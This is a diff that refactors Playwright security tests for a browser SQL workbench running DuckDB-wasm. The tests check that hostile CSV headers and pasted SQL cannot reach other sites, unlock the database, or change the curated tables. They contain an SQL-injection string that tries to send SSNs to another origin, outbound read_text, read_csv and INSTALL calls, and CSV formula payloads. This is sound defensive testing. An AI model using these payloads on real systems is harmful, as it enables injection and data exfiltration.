@@ -11,7 +11,7 @@ import { join } from 'node:path';
 import { DuckDBInstance } from '@duckdb/node-api';
 import type { Page } from '@playwright/test';
 import { test, expect } from './fixtures';
-import { allFigures, ready, total } from './helpers';
+import { allFigures, openWorkbench, ready, runSql, total } from './helpers';
 
 const dir = mkdtempSync(join(tmpdir(), 'cifras-security-'));
 
@@ -40,18 +40,10 @@ function foreignRequests(page: Page, site: string): string[] {
 	return seen;
 }
 
-async function open(page: Page) {
-	await page.goto('/sql');
-	await expect(page.getByTestId('sql-engine')).toHaveAttribute('data-state', 'ready', {
-		timeout: 30_000
-	});
-}
-
 /** Runs SQL and waits until the workbench has finished with it. */
-async function runSql(page: Page, sql: string) {
+async function runSqlToEnd(page: Page, sql: string) {
 	const runs = Number(await page.locator('.workbench').getAttribute('data-runs'));
-	await page.getByTestId('sql-editor').fill(sql);
-	await page.getByTestId('sql-editor').press('Control+Enter');
+	await runSql(page, sql);
 	await expect(page.locator('.workbench')).toHaveAttribute('data-runs', String(runs + 1), {
 		timeout: 60_000
 	});
@@ -85,8 +77,8 @@ test('hostile CSV headers load as column names: nothing runs, nothing leaves, fi
 }) => {
 	const figures = await allFigures(page);
 	const foreign = foreignRequests(page, baseURL!);
-	await open(page);
-	await runSql(page, `SET VARIABLE t = 'secrets'`);
+	await openWorkbench(page);
+	await runSqlToEnd(page, `SET VARIABLE t = 'secrets'`);
 	await expect(page.getByTestId('sql-notice')).toContainText(/rows? in/);
 	expect((await load(page, 'secrets.csv', 'name,ssn\nAna,123-45-6789\n')).state).toBe('done');
 	const exfil = `x': 'VARCHAR'}); SELECT * FROM read_text('${otherOrigin}/?' || (SELECT string_agg(ssn) FROM query_table(getvariable('t')))); --`;
@@ -102,17 +94,17 @@ test('hostile CSV headers load as column names: nothing runs, nothing leaves, fi
 	expect(share.state).toBe('done');
 
 	// Each header is a column, found by its exact name.
-	await runSql(page, `SELECT ${quoteCell(TAMPER)} FROM tamper`);
+	await runSqlToEnd(page, `SELECT ${quoteCell(TAMPER)} FROM tamper`);
 	expect(await resultCells(page)).toEqual(['1']);
-	await runSql(page, `SELECT "Children's share" FROM shares`);
+	await runSqlToEnd(page, `SELECT "Children's share" FROM shares`);
 	expect(await resultCells(page)).toEqual(['0.4']);
 	const schema = page.getByTestId('schema');
 	await expect(schema.locator('[data-table="tamper"] dt code').first()).toHaveText(TAMPER);
 
 	// The curated quotes are as published.
-	await runSql(page, `SELECT count(*) AS n FROM figures WHERE quote LIKE 'TAMPERED%'`);
+	await runSqlToEnd(page, `SELECT count(*) AS n FROM figures WHERE quote LIKE 'TAMPERED%'`);
 	expect(await resultCells(page)).toEqual(['0']);
-	await runSql(page, `SELECT count(DISTINCT quote) AS n FROM figures`);
+	await runSqlToEnd(page, `SELECT count(DISTINCT quote) AS n FROM figures`);
 	expect(await resultCells(page)).toEqual([String(new Set(figures.map((f) => f.quote)).size)]);
 	expect(foreign).toEqual([]);
 	expect(hits).toEqual([]);
@@ -123,7 +115,7 @@ test('pasted SQL reaches no other site and cannot unlock the database', async ({
 	baseURL
 }) => {
 	const foreign = foreignRequests(page, baseURL!);
-	await open(page);
+	await openWorkbench(page);
 	const attempts: [string, RegExp][] = [
 		[`SELECT * FROM read_text('${otherOrigin}/a')`, /never reaches the network/],
 		[`SELECT * FROM read_csv('${otherOrigin}/b.csv')`, /never reaches the network/],
@@ -136,14 +128,14 @@ test('pasted SQL reaches no other site and cannot unlock the database', async ({
 		[`SET allowed_directories = ['/']`, /locked in this page/]
 	];
 	for (const [sql, help] of attempts) {
-		await runSql(page, sql);
+		await runSqlToEnd(page, sql);
 		await expect(page.getByTestId('sql-error-help'), sql).toHaveText(help);
 	}
 	// INSTALL is accepted by DuckDB-wasm and does nothing: no request, and LOAD still refuses.
-	await runSql(page, `INSTALL httpfs FROM '${otherOrigin}/'`);
-	await runSql(page, `LOAD httpfs`);
+	await runSqlToEnd(page, `INSTALL httpfs FROM '${otherOrigin}/'`);
+	await runSqlToEnd(page, `LOAD httpfs`);
 	await expect(page.getByTestId('sql-error-help')).toHaveText(/Extensions cannot be loaded/);
-	await runSql(page, 'SELECT 40 + 2 AS answer');
+	await runSqlToEnd(page, 'SELECT 40 + 2 AS answer');
 	expect(await resultCells(page)).toEqual(['42']);
 	expect(foreign).toEqual([]);
 	expect(hits).toEqual([]);
@@ -153,18 +145,18 @@ test('the curated tables are read-only to the workbench, and the explorer never 
 	page
 }) => {
 	const figures = await allFigures(page);
-	await open(page);
-	await runSql(page, `UPDATE figures SET quote = 'changed'`);
+	await openWorkbench(page);
+	await runSqlToEnd(page, `UPDATE figures SET quote = 'changed'`);
 	await expect(page.getByTestId('sql-error')).toContainText('read-only');
 	await expect(page.getByTestId('sql-error-help')).toContainText(
 		'CREATE TABLE my_figures AS FROM figures'
 	);
-	await runSql(page, `DROP TABLE figures`);
+	await runSqlToEnd(page, `DROP TABLE figures`);
 	await expect(page.getByTestId('sql-error')).toBeVisible();
 	await expect(page.getByTestId('curated-changed')).toHaveCount(0);
 
 	// Re-attaching the file read-write is the one way to change it: the workbench says so.
-	await runSql(
+	await runSqlToEnd(
 		page,
 		`DETACH curated; ATTACH '/cifras/curated.duckdb' AS curated; UPDATE curated.figures SET quote = 'changed'; SELECT 1`
 	);
@@ -182,15 +174,15 @@ test('the curated tables are read-only to the workbench, and the explorer never 
 test('files named like the workbench’s own tables get other names, with a notice', async ({
 	page
 }) => {
-	await open(page);
+	await openWorkbench(page);
 	for (const name of ['explorer_figures', 'cifras_result', 'figures']) {
 		const loaded = await load(page, `${name}.csv`, 'a\n1\n');
 		expect(loaded.message).toContain(`as table ${name}_2.`);
 		expect(loaded.message).toContain(`${name} is a name the workbench uses itself`);
 	}
-	await runSql(page, 'SELECT 5 AS a');
+	await runSqlToEnd(page, 'SELECT 5 AS a');
 	await resultCells(page);
-	await runSql(page, 'SELECT a FROM cifras_result_2');
+	await runSqlToEnd(page, 'SELECT a FROM cifras_result_2');
 	expect(await resultCells(page)).toEqual(['1']);
 	// A table ending in _cube is an ordinary table, listed like any other.
 	expect((await load(page, 'rates_cube.csv', 'a\n1\n')).message).toContain('as table rates_cube.');
@@ -200,7 +192,7 @@ test('files named like the workbench’s own tables get other names, with a noti
 test('files with mixed or old line endings, long cells and awkward JSON load, or say why not', async ({
 	page
 }) => {
-	await open(page);
+	await openWorkbench(page);
 	const mixed = await load(page, 'mixed.csv', 'a,b\r\n1,2\n3,4\r\n');
 	expect(mixed.message).toMatch(/^2 rows loaded/);
 	const cr = await load(page, 'old-mac.csv', 'a,b\r1,2\r3,4\r');
@@ -227,11 +219,11 @@ test('CSV exports neutralise formulas in text and keep numbers; a million rows e
 	page
 }) => {
 	test.setTimeout(180_000);
-	await open(page);
+	await openWorkbench(page);
 	const cells = ['=HYPERLINK("http://x","y")', '+1+2', '-3', '@SUM(A1)', '\tx', 'plain'];
 	const rows = cells.map((c, i) => `${i},${quoteCell(c)},${-i}`).join('\n');
 	expect((await load(page, 'hostile.csv', `id,text,n\n${rows}\n`)).state).toBe('done');
-	await runSql(page, 'SELECT * FROM hostile ORDER BY id');
+	await runSqlToEnd(page, 'SELECT * FROM hostile ORDER BY id');
 	await resultCells(page);
 	const [download] = await Promise.all([
 		page.waitForEvent('download'),
@@ -258,7 +250,7 @@ test('CSV exports neutralise formulas in text and keep numbers; a million rows e
 	expect(readFileSync(path, 'utf8')).not.toMatch(/(^|,)=HYPERLINK/m);
 
 	// A million rows: written a chunk at a time, with progress, and the page answers meanwhile.
-	await runSql(page, 'SELECT i, i::VARCHAR AS s FROM range(1000000) t(i)');
+	await runSqlToEnd(page, 'SELECT i, i::VARCHAR AS s FROM range(1000000) t(i)');
 	await expect(page.getByTestId('sql-notice')).toContainText('1,000,000 rows in', {
 		timeout: 60_000
 	});
@@ -318,7 +310,7 @@ test('after the synthetic bench page, the workbench holds the curated figures on
 	await expect(page.getByTestId('sql-engine')).toHaveAttribute('data-state', 'ready', {
 		timeout: 30_000
 	});
-	await runSql(
+	await runSqlToEnd(
 		page,
 		`SELECT count(*) AS n, count(*) FILTER (figure_id LIKE 'syn-%') AS s FROM figures`
 	);
